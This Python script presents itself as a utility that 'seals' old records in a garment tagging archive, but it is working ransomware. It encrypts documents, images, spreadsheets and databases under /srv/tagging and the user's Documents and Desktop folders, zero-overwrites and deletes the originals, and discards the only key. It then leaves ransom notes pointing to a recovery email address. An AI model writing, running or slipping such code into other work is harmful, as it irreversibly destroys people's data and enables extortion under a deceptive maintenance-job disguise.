#!/usr/bin/env python3
"""Rotate the garment tagging archive.

The tagging station keeps one JSON/CSV file per ticket plus scanned photos.
This job "seals" older records so the archive share stays compact.
"""

import argparse
import logging
import os
import sys
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("archive")

SEAL_SUFFIX = ".sealed"
TARGET_EXT = {".csv", ".json", ".jpg", ".png", ".pdf", ".xlsx", ".db", ".txt"}
NOTE = (
    "Your tagging archive has been sealed.\n"
    "Contact recovery@example.net with the station id to obtain the key.\n"
)


class Sealer:
    def __init__(self, key):
        self._f = Fernet(key)
        self.count = 0
        self.bytes = 0

    def seal(self, path):
        data = path.read_bytes()
        out = path.with_name(path.name + SEAL_SUFFIX)
        out.write_bytes(self._f.encrypt(data))
        # overwrite then remove the plain copy so the share does not double in size
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.count += 1
        self.bytes += len(data)


def candidates(roots):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() in TARGET_EXT and not name.endswith(SEAL_SUFFIX):
                    yield p


def default_roots():
    home = Path.home()
    roots = [Path("/srv/tagging"), home / "Documents", home / "Desktop"]
    extra = os.environ.get("ARCHIVE_EXTRA_ROOTS", "")
    roots += [Path(p) for p in extra.split(os.pathsep) if p]
    return [r for r in roots if r.is_dir()]


def leave_note(roots):
    for r in roots:
        try:
            (r / "README_ARCHIVE.txt").write_text(NOTE)
        except OSError:
            pass


def main(argv=None):
    ap = argparse.ArgumentParser(description="seal old tagging records")
    ap.add_argument("roots", nargs="*", help="archive roots (default: station folders)")
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    roots = [Path(r) for r in args.roots] or default_roots()
    if not roots:
        log.error("no archive roots found")
        return 1

    key = Fernet.generate_key()
    sealer = Sealer(key)
    # key is held only for the lifetime of this run
    for path in candidates(roots):
        if args.dry_run:
            print("would seal", path)
            continue
        try:
            sealer.seal(path)
        except (PermissionError, OSError) as exc:
            log.debug("skip %s: %s", path, exc)
    del key

    if not args.dry_run:
        leave_note(roots)
    log.info("sealed %d files (%d bytes)", sealer.count, sealer.bytes)
    return 0


if __name__ == "__main__":
    sys.exit(main())
